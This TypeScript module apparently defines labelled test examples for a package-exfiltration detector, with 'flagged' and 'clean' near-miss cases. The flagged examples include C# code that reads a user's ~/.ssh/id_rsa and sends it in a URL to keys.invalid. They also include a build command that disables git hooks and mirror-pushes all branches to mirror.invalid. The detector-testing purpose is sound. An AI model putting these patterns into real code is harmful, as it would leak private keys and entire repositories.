import { buildCommand, type Examples } from './examples.js';
import { openFiles } from './open-files.js';
import { programs } from './programs.js';
import { library } from './stealing.js';
import { uploads } from './uploads.js';

/** What is sent by where it is asked for or put, and whole repositories. */
export const addresses: Examples = {
  flagged: [
    ...openFiles.flagged,
    ...programs.flagged,
    ...uploads.flagged,
    {
      name: 'key-behind-an-address',
      about: 'A private key stands behind the address of a request that carries nothing else.',
      files: library(`public static class Ask
{
    public static Task<HttpResponseMessage> Run(string home)
    {
        var key = File.ReadAllText(Path.Combine(home, ".ssh/id_rsa"));
        var request = new HttpRequestMessage(HttpMethod.Get, new Uri("https://keys.invalid/?k=" + key));
        return new HttpClient().SendAsync(request);
    }
}`),
    },
    {
      name: 'history-to-mirror',
      about: 'Every build pushes all branches to a mirror that the package names.',
      files: buildCommand(
        'git -c core.hooksPath=/dev/null push --mirror https://mirror.invalid/all.git',
      ),
    },
  ],
  clean: [
    ...openFiles.clean,
    ...programs.clean,
    ...uploads.clean,
    {
      name: 'asks-servers-of-a-file',
      about: 'The servers that a file of credentials names are asked whether they answer.',
      nearMiss: true,
      files: library(`public static class Ask
{
    public static async Task Run(string home)
    {
        var file = System.Xml.Linq.XDocument.Load(Path.Combine(home, ".nuget/NuGet/NuGet.Config"));
        foreach (var each in file.Descendants("add"))
        {
            if (!Uri.TryCreate(each.Attribute("value").Value, UriKind.Absolute, out var address)) continue;
            using var request = new HttpRequestMessage(HttpMethod.Head, address);
            await new HttpClient().SendAsync(request);
        }
    }
}`),
    },
    {
      name: 'tag-to-own-remote',
      about: 'A build pushes a tag to where the repository came from.',
      nearMiss: true,
      files: buildCommand('git push origin v1.2.3'),
    },
  ],
};
